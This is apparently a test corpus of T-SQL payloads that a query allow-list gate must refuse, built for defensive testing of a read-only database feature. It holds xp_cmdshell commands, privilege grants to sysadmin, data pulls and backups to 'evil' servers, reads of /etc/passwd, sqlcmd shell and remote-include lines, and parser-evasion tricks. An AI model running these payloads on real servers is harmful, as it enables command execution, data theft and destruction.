-- Payloads the allow-list gate (VG002) must refuse: one block per payload, named CLASS.SLUG.
-- Each is something SQL Server would run (or try to) that writes, runs code, reaches outside the
-- database, changes the server or the session's rights, or is simply not on the allow-list.
-- Loaded by tests/security/gate_corpus.py; every block must come back "fail" with a VG002 finding.

-- name: exec.plain
EXEC dbo.bspAPHBPost 1, '2024-01-01', 1

-- name: exec.execute
EXECUTE dbo.bspJCCMDelete 1

-- name: exec.lower
exec dbo.bspAPTHDelete 1

-- name: exec.mixed_case
ExEc dbo.bspAPTHDelete 1

-- name: exec.after_select
SELECT Contract FROM JCCM WHERE JCCo = 1
EXEC dbo.bspJCCMDelete 1

-- name: exec.after_semicolon
SELECT Contract FROM JCCM WHERE JCCo = 1; EXEC dbo.bspJCCMDelete 1

-- name: exec.xp_cmdshell
EXEC xp_cmdshell 'whoami'

-- name: exec.master_xp_cmdshell
EXEC master..xp_cmdshell 'dir c:\'

-- name: exec.master_dbo_xp_cmdshell
EXEC master.dbo.xp_cmdshell N'net user'

-- name: exec.dynamic_string
EXEC('DELETE FROM bAPTH')

-- name: exec.dynamic_space
EXEC ('DROP TABLE bJCCM')

-- name: exec.dynamic_concat
EXEC('DEL' + 'ETE FROM bAPTH')

-- name: exec.dynamic_variable
DECLARE @s nvarchar(200) = N'DELETE FROM bAPTH'
EXEC(@s)

-- name: exec.dynamic_variable_concat
DECLARE @s nvarchar(200)
SET @s = 'TRUNCATE' + ' TABLE bAPTH'
EXECUTE (@s)

-- name: exec.sp_executesql
EXEC sp_executesql N'DELETE FROM bAPTH'

-- name: exec.sp_executesql_params
DECLARE @co tinyint = 1
EXEC sys.sp_executesql N'DELETE FROM bAPTH WHERE APCo = @c', N'@c tinyint', @c = @co

-- name: exec.return_value
DECLARE @rc int
EXEC @rc = dbo.bspAPHBPost 1

-- name: exec.comment_between
EXEC /* harmless */ dbo.bspAPHBPost 1

-- name: exec.line_comment_between
EXEC -- post the batch
  dbo.bspAPHBPost 1

-- name: exec.tabs
EXEC	dbo.bspAPHBPost	1

-- name: exec.brackets
EXEC [dbo].[bspAPHBPost] 1

-- name: exec.as_user
EXECUTE AS USER = 'dbo'
SELECT Contract FROM JCCM WHERE JCCo = 1

-- name: exec.insert_exec
INSERT INTO #t EXEC dbo.bspAPHBPost 1

-- name: exec.in_if
IF 1 = 1 EXEC dbo.bspAPHBPost 1

-- name: exec.in_nested_block
IF EXISTS (SELECT 1 FROM APTH WHERE APCo = 1)
BEGIN
    IF 1 = 1
    BEGIN
        EXEC dbo.bspAPHBPost 1
    END
END

-- name: exec.in_else
IF 1 = 0 SELECT 1 ELSE EXEC dbo.bspAPHBPost 1

-- name: exec.in_try
BEGIN TRY
    EXEC dbo.bspAPHBPost 1
END TRY
BEGIN CATCH
    SELECT ERROR_MESSAGE()
END CATCH

-- name: exec.in_catch
BEGIN TRY SELECT 1 END TRY BEGIN CATCH EXEC dbo.bspAPHBPost 1 END CATCH

-- name: exec.in_while
WHILE 1 = 1 BEGIN EXEC dbo.bspAPHBPost 1 BREAK END

-- name: bare.xp_cmdshell
xp_cmdshell 'whoami'

-- name: bare.sp_detach_db
sp_detach_db 'Viewpoint'

-- name: bare.vista_procedure
bspAPHBPost

-- name: bare.vista_procedure_args
bspAPHBPost 1, '2024-01-01', 1

-- name: bare.schema_qualified
dbo.bspAPHBPost 1

-- name: bare.brackets
[dbo].[bspAPHBPost] 1

-- name: bare.bracketed_xp
[xp_cmdshell] 'whoami'

-- name: bare.after_go
SELECT Contract FROM JCCM WHERE JCCo = 1
GO
bspAPHBPost 1

-- name: bare.after_go_lower
SELECT Contract FROM JCCM WHERE JCCo = 1
go
sp_detach_db 'Viewpoint'

-- name: bare.after_go_count
SELECT Contract FROM JCCM WHERE JCCo = 1
GO 2
xp_cmdshell 'whoami'

-- name: bare.after_go_comment
SELECT Contract FROM JCCM WHERE JCCo = 1
GO
-- the nightly post
bspAPHBPost 1

-- name: bare.after_go_indented
SELECT Contract FROM JCCM WHERE JCCo = 1
   GO
	bspAPHBPost 1

-- name: bare.leading_comment
/* post */ bspAPHBPost 1

-- name: bare.after_semicolon
SELECT Contract FROM JCCM WHERE JCCo = 1; bspAPHBPost 1

-- name: bare.in_block
BEGIN bspAPHBPost 1 END

-- name: sysproc.in_select_list
SELECT sp_who

-- name: sysproc.as_table
SELECT * FROM sp_who2

-- name: sysproc.bracketed_in_from
SELECT * FROM [master]..[xp_dirtree]

-- name: sysproc.configure
sp_configure 'xp_cmdshell', 1

-- name: sysproc.configure_after_go
SELECT 1
GO
EXEC sp_configure 'show advanced options', 1
GO
RECONFIGURE

-- name: sysproc.addsrvrolemember
EXEC sp_addsrvrolemember 'vgpt', 'sysadmin'

-- name: sysproc.upper
SP_RENAME 'bAPTH', 'bAPTH_old'

-- name: sysproc.dotted
SELECT master.sys.sp_helptext

-- name: sysproc.quoted
SELECT * FROM "xp_regread"

-- name: sysproc.oacreate
DECLARE @o int
EXEC sp_OACreate 'WScript.Shell', @o OUT

-- name: write.delete
DELETE FROM bAPTH

-- name: write.delete_no_from
DELETE bAPTH WHERE APCo = 1

-- name: write.delete_after_select
SELECT Contract FROM JCCM WHERE JCCo = 1
DELETE FROM bJCCM WHERE JCCo = 1

-- name: write.delete_same_line
SELECT Contract FROM JCCM WHERE JCCo = 1 DELETE FROM bJCCM WHERE JCCo = 1

-- name: write.delete_tabs_case
sElEcT 1	dElEtE	fRoM	bAPTH

-- name: write.update
UPDATE bAPTH SET OpenYN = 'N' WHERE APCo = 1

-- name: write.update_from_join
UPDATE h SET h.OpenYN = 'N' FROM bAPTH h JOIN #t t ON t.APTrans = h.APTrans

-- name: write.update_through_cte
;WITH x AS (SELECT OpenYN FROM bAPTH WHERE APCo = 1) UPDATE x SET OpenYN = 'N'

-- name: write.delete_through_cte
WITH x AS (SELECT * FROM bAPTH) DELETE FROM x

-- name: write.insert_permanent
INSERT INTO bAPTH (APCo, Mth, APTrans) VALUES (1, '2024-01-01', 1)

-- name: write.insert_no_into
INSERT bAPVM (VendorGroup, Vendor) SELECT 1, 99999

-- name: write.insert_select
INSERT INTO dbo.udCopy SELECT * FROM APTH WHERE APCo = 1

-- name: write.insert_global_temp
INSERT INTO ##shared SELECT APCo FROM APTH WHERE APCo = 1

-- name: write.merge
MERGE bAPVM AS t USING (SELECT 1 AS VendorGroup, 1 AS Vendor) AS s
ON t.VendorGroup = s.VendorGroup AND t.Vendor = s.Vendor
WHEN MATCHED THEN DELETE;

-- name: write.truncate
TRUNCATE TABLE bAPTH

-- name: write.truncate_hidden
SELECT 1 AS x TRUNCATE TABLE bJCCD

-- name: write.bulk_insert
BULK INSERT bAPTH FROM '\\server\share\apth.csv'

-- name: write.writetext
DECLARE @p varbinary(16)
WRITETEXT bHQNT.Notes @p 'x'

-- name: write.updatetext
UPDATETEXT bHQNT.Notes @p NULL 0 'x'

-- name: write.in_if_block
IF 1 = 1
BEGIN
    SELECT Contract FROM JCCM WHERE JCCo = 1
    DELETE FROM bJCCM
END

-- name: write.in_else_block
IF 1 = 0 BEGIN SELECT 1 END ELSE BEGIN UPDATE bJCCM SET ContractStatus = 3 END

-- name: write.in_while
WHILE 1 = 1 BEGIN DELETE TOP (100) FROM bJCCD END

-- name: write.in_try
BEGIN TRY DELETE FROM bAPTH END TRY BEGIN CATCH SELECT 1 END CATCH

-- name: write.after_go
SELECT Contract FROM JCCM WHERE JCCo = 1
GO
DELETE FROM bJCCM

-- name: write.after_declare
DECLARE @x int = 1 DELETE FROM bAPTH WHERE APCo = @x

-- name: write.after_set
DECLARE @x int
SET @x = 1 UPDATE bAPTH SET OpenYN = 'N'

-- name: write.after_block_end
IF 1 = 1 BEGIN SELECT 1; END DELETE FROM bAPTH

-- name: write.after_case
SELECT CASE WHEN 1 = 1 THEN 'a' ELSE 'b' END AS x
DELETE FROM bAPTH

-- name: write.comment_split
SELECT 1 /* report */ DELETE /* all */ FROM bAPTH

-- name: write.line_comment_split
SELECT 1 -- report
DELETE FROM bAPTH -- all

-- name: into.select_into_permanent
SELECT * INTO dbo.udStolen FROM APTH WHERE APCo = 1

-- name: into.select_into_bare
SELECT JCCo, Contract INTO JCCMCopy FROM JCCM WHERE JCCo = 1

-- name: into.select_into_bracketed
SELECT JCCo INTO [dbo].[udCopy] FROM JCCM WHERE JCCo = 1

-- name: into.global_temp
SELECT APCo, APTrans INTO ##everyone FROM APTH WHERE APCo = 1

-- name: into.tempdb_permanent
SELECT APCo INTO tempdb.dbo.kept FROM APTH WHERE APCo = 1

-- name: into.cte
WITH x AS (SELECT APCo FROM APTH WHERE APCo = 1) SELECT * INTO udCopy FROM x

-- name: into.output_into_from_temp_insert
INSERT INTO #t (APCo) OUTPUT inserted.APCo INTO dbo.udLog SELECT APCo FROM APTH WHERE APCo = 1

-- name: into.output_in_temp_insert
INSERT INTO #t (APCo) OUTPUT inserted.APCo SELECT APCo FROM APTH WHERE APCo = 1

-- name: into.output_into_after_values
INSERT INTO @t OUTPUT inserted.* INTO bAPVM VALUES (1)

-- name: into.second_statement
SELECT Contract INTO #c FROM JCCM WHERE JCCo = 1
SELECT Contract INTO udKeep FROM #c

-- name: print.delete
PRINT 'x' DELETE FROM bAPTH

-- name: print.update
PRINT 'x' UPDATE bAPTH SET OpenYN = 'N'

-- name: print.drop
PRINT 'report' DROP TABLE bAPTH

-- name: print.merge
PRINT 'x' MERGE bAPVM AS t USING (SELECT 1 AS v) s ON 1 = 0 WHEN NOT MATCHED THEN INSERT (Vendor) VALUES (s.v);

-- name: print.exec
PRINT 'x' EXEC dbo.bspAPHBPost 1

-- name: print.xp
PRINT 'x' EXEC xp_cmdshell 'whoami'

-- name: print.unicode
PRINT N'Rapport' DELETE FROM bAPTH

-- name: print.after_select
SELECT 1 AS x
PRINT 'done' DELETE FROM bAPTH

-- name: print.in_block
IF 1 = 1 BEGIN PRINT 'x' TRUNCATE TABLE bAPTH END

-- name: rowset.openquery_select
SELECT * FROM OPENQUERY(LINKED, 'SELECT * FROM secrets')

-- name: rowset.openrowset_select
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')

-- name: rowset.openrowset_bulk
SELECT BulkColumn FROM OPENROWSET(BULK 'C:\Windows\win.ini', SINGLE_CLOB) AS f

-- name: rowset.opendatasource
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').master.dbo.sysobjects

-- name: rowset.openxml
DECLARE @h int
SELECT * FROM OPENXML(@h, '/root', 1)

-- name: rowset.in_declare
DECLARE @x int = (SELECT COUNT(*) FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1'))

-- name: rowset.in_set
DECLARE @x nvarchar(max)
SET @x = (SELECT TOP 1 * FROM OPENQUERY(LINKED, 'SELECT name FROM sys.sql_logins'))

-- name: rowset.in_cursor
DECLARE c CURSOR FOR SELECT * FROM OPENQUERY(LINKED, 'SELECT 1')

-- name: rowset.in_print
PRINT (SELECT TOP 1 x FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1 AS x') t)

-- name: rowset.in_exists
IF EXISTS (SELECT 1 FROM OPENQUERY(LINKED, 'SELECT 1')) SELECT 1

-- name: rowset.in_join
SELECT h.APRef FROM APTH h JOIN OPENQUERY(LINKED, 'SELECT 1 AS APCo') q ON q.APCo = h.APCo WHERE h.APCo = 1

-- name: rowset.lower_case
select * from openrowset('MSDASQL', 'Driver={SQL Server}', 'select 1')

-- name: rowset.bracketed_linked_server
SELECT * FROM OPENQUERY([EVIL-SERVER], N'SELECT 1')

-- name: admin.waitfor_delay
WAITFOR DELAY '00:10:00'

-- name: admin.waitfor_after_select
SELECT Contract FROM JCCM WHERE JCCo = 1; WAITFOR DELAY '00:00:30'

-- name: admin.waitfor_time
IF 1 = 1 WAITFOR TIME '23:59'

-- name: admin.backup_database
BACKUP DATABASE Viewpoint TO DISK = '\\evil\share\vp.bak'

-- name: admin.backup_log
BACKUP LOG Viewpoint TO DISK = 'NUL'

-- name: admin.restore
RESTORE DATABASE Viewpoint FROM DISK = 'C:\old.bak' WITH REPLACE

-- name: admin.dbcc_checkdb
DBCC CHECKDB

-- name: admin.dbcc_freeproccache
SELECT 1
DBCC FREEPROCCACHE

-- name: admin.kill
KILL 52

-- name: admin.shutdown
SHUTDOWN WITH NOWAIT

-- name: admin.shutdown_after_go
SELECT 1
GO
SHUTDOWN

-- name: admin.reconfigure
RECONFIGURE WITH OVERRIDE

-- name: admin.checkpoint
CHECKPOINT

-- name: admin.setuser
SETUSER 'dbo'

-- name: admin.revert
REVERT

-- name: admin.end_conversation
END CONVERSATION @handle

-- name: admin.begin_dialog
BEGIN DIALOG @h FROM SERVICE a TO SERVICE 'b'

-- name: admin.use
USE master

-- name: admin.use_then_select
USE msdb; SELECT * FROM dbo.sysjobs

-- name: admin.dump
DUMP DATABASE Viewpoint TO DISK = 'x'

-- name: admin.load
LOAD DATABASE Viewpoint FROM DISK = 'x'

-- name: perms.grant
GRANT SELECT ON bAPTH TO public

-- name: perms.grant_after_select
SELECT 1; GRANT CONTROL SERVER TO vgpt

-- name: perms.deny
DENY SELECT ON bPRTH TO public

-- name: perms.revoke
REVOKE SELECT ON bAPTH FROM public

-- name: perms.execute_as_login
EXECUTE AS LOGIN = 'sa'

-- name: perms.alter_role
ALTER ROLE db_owner ADD MEMBER vgpt

-- name: ddl.drop_table
DROP TABLE bAPTH

-- name: ddl.drop_if_exists
DROP TABLE IF EXISTS #t; DROP VIEW APTH

-- name: ddl.create_table
CREATE TABLE dbo.udKeep (a int)

-- name: ddl.create_temp_table
CREATE TABLE #t (a int)

-- name: ddl.create_view
CREATE VIEW dbo.vrvOpen AS SELECT Contract FROM JCCM WHERE JCCo = 1

-- name: ddl.alter_view
ALTER VIEW dbo.APTH AS SELECT * FROM bAPTH WHERE 1 = 0

-- name: ddl.create_or_alter_view
CREATE OR ALTER VIEW dbo.JCCM AS SELECT * FROM bJCCM WHERE JCCo = 99

-- name: ddl.create_procedure
CREATE PROCEDURE dbo.udEvil AS DELETE FROM bAPTH

-- name: ddl.create_trigger
CREATE TRIGGER trEvil ON bAPTH AFTER INSERT AS DELETE FROM bAPTH

-- name: ddl.alter_table
ALTER TABLE bAPTH ADD udNote varchar(10)

-- name: ddl.alter_database
ALTER DATABASE Viewpoint SET SINGLE_USER WITH ROLLBACK IMMEDIATE

-- name: ddl.create_login
CREATE LOGIN evil WITH PASSWORD = 'x'

-- name: ddl.disable_trigger
DISABLE TRIGGER ALL ON bAPTH

-- name: ddl.enable_trigger_after_select
SELECT 1 ENABLE TRIGGER ALL ON bAPTH

-- name: ddl.create_index
CREATE INDEX ix ON bAPTH (APCo)

-- name: ddl.after_go
SELECT 1
GO
CREATE OR ALTER VIEW dbo.APVM AS SELECT 1 AS x

-- name: function.read_text
SELECT read_text('/etc/passwd')

-- name: function.read_csv
SELECT * FROM read_csv('/etc/passwd')

-- name: function.getenv
SELECT getenv('HOME')

-- name: function.glob
SELECT * FROM glob('/home/*')

-- name: function.read_parquet
SELECT * FROM read_parquet('s3://bucket/x.parquet')

-- name: function.in_where
SELECT Contract FROM JCCM WHERE JCCo = 1 AND Contract = read_text('/etc/hostname')

-- name: function.in_declare
DECLARE @x varchar(max) = read_text('/etc/passwd')

-- name: function.bracketed
SELECT [read_text]('/etc/passwd')

-- name: function.upper_case
SELECT GETENV('USER')

-- name: function.audit_file
SELECT * FROM sys.fn_get_audit_file('C:\audit\*.sqlaudit', DEFAULT, DEFAULT)

-- name: function.user_defined
SELECT dbo.udfAnything(1)

-- name: function.undocumented_vista
SELECT dbo.vfNotInTheDocs(1)

-- name: function.three_part
SELECT Viewpoint.dbo.vfDateOnly(GETDATE())

-- name: function.type_method
SELECT geography::STGeomFromText('POINT(1 1)', 4326)

-- name: function.xml_modify
DECLARE @x xml = '<a/>'
SET @x.modify('insert <b/> into (/a)[1]')

-- name: function.odbc_escape
SELECT {fn USER()}

-- name: function.odbc_call
{call dbo.bspAPHBPost(1)}

-- name: function.string_as_table
SELECT * FROM '/etc/passwd'

-- name: function.file_like_table
SELECT * FROM [data.csv]

-- name: tran.begin_tran
BEGIN TRAN
SELECT Contract FROM JCCM WITH (UPDLOCK, HOLDLOCK) WHERE JCCo = 1

-- name: tran.begin_transaction
BEGIN TRANSACTION; SELECT 1

-- name: tran.commit
SELECT 1; COMMIT

-- name: tran.rollback
ROLLBACK TRANSACTION

-- name: tran.save
SAVE TRAN sp1

-- name: tran.distributed
BEGIN DISTRIBUTED TRANSACTION

-- name: cursor.open_fetch
DECLARE c CURSOR FOR SELECT Contract FROM JCCM WHERE JCCo = 1
OPEN c
FETCH NEXT FROM c

-- name: cursor.for_update
DECLARE c CURSOR FOR SELECT Contract FROM bJCCM WHERE JCCo = 1 FOR UPDATE OF Contract

-- name: cursor.deallocate
CLOSE c; DEALLOCATE c

-- name: control.goto
GOTO finish

-- name: control.label
finish: SELECT 1

-- name: control.return
IF 1 = 1 RETURN

-- name: control.raiserror_log
RAISERROR('x', 10, 1) WITH LOG

-- name: control.throw
THROW 50000, 'stop', 1

-- name: control.sequence
SELECT NEXT VALUE FOR dbo.seqInvoice

-- name: control.send
SEND ON CONVERSATION @h ('x')

-- name: control.receive
RECEIVE TOP (1) * FROM dbo.TargetQueue

-- name: setopt.identity_insert
SET IDENTITY_INSERT bAPTH ON

-- name: setopt.context_info
SET CONTEXT_INFO 0x01

-- name: setopt.implicit_transactions
SET IMPLICIT_TRANSACTIONS ON

-- name: setopt.unknown
SET REMOTE_PROC_TRANSACTIONS ON

-- name: setopt.after_nocount
SET NOCOUNT ON
SET IDENTITY_INSERT bJCCM ON

-- name: evasion.nested_comment_quote
/* /* */ ' */ DELETE FROM bAPTH --'

-- name: evasion.backslash_is_not_an_escape
SELECT 'C:\' DELETE FROM bAPTH --'

-- name: evasion.go_inside_string
SELECT '
GO
xp_cmdshell ''whoami''
--'

-- name: evasion.go_inside_comment
/*
GO
bspAPHBPost 1
*/ SELECT 1

-- name: evasion.go_inside_bracket
SELECT [x
GO
]

-- name: evasion.unicode_string_exec
EXEC (N'DELETE FROM bAPTH')

-- name: evasion.char_built_exec
DECLARE @s varchar(100) = CHAR(68) + 'ELETE FROM bAPTH'
EXEC (@s)

-- name: evasion.semicolon_with_delete
;WITH d AS (SELECT TOP 10 * FROM bAPTH) DELETE FROM d

-- name: evasion.nested_blocks
BEGIN
  BEGIN
    BEGIN TRY
      IF 1 = 1 BEGIN SELECT 1 END ELSE BEGIN SELECT 2 END
      BEGIN
        DROP TABLE bAPTH
      END
    END TRY
    BEGIN CATCH SELECT 0 END CATCH
  END
END

-- name: evasion.newline_in_keyword_spacing
SELECT 1
;
DELETE
FROM
bAPTH

-- name: evasion.block_end_command_string
IF 1 = 1 BEGIN SELECT 1; END UPDATE bAPTH SET OpenYN = 'N'

-- name: evasion.fetch_not_after_offset
SELECT 1; FETCH NEXT FROM c

-- name: evasion.parenthesised_exec
SELECT 1 WHERE 1 = (EXEC dbo.bspAPHBPost 1)

-- name: evasion.quoted_identifier_call
SELECT "getenv"('HOME')

-- name: evasion.sqlcmd_shell
SELECT Contract FROM JCCM WHERE JCCo = 1
:!! del /q C:\data\*.*

-- name: evasion.sqlcmd_bang
SELECT 1
!! whoami

-- name: evasion.sqlcmd_include
:r \\evil\share\payload.sql
SELECT 1

-- name: evasion.sqlcmd_connect
:connect evil-server
SELECT 1

-- name: evasion.sqlcmd_setvar
:setvar cmd "DELETE FROM bAPTH"
SELECT 1

-- name: function.string_in_from_list
SELECT h.APRef FROM APTH h, '/etc/passwd' WHERE h.APCo = 1

-- name: function.file_in_join
SELECT h.APRef FROM APTH h CROSS JOIN [/home/user/x.parquet] WHERE h.APCo = 1
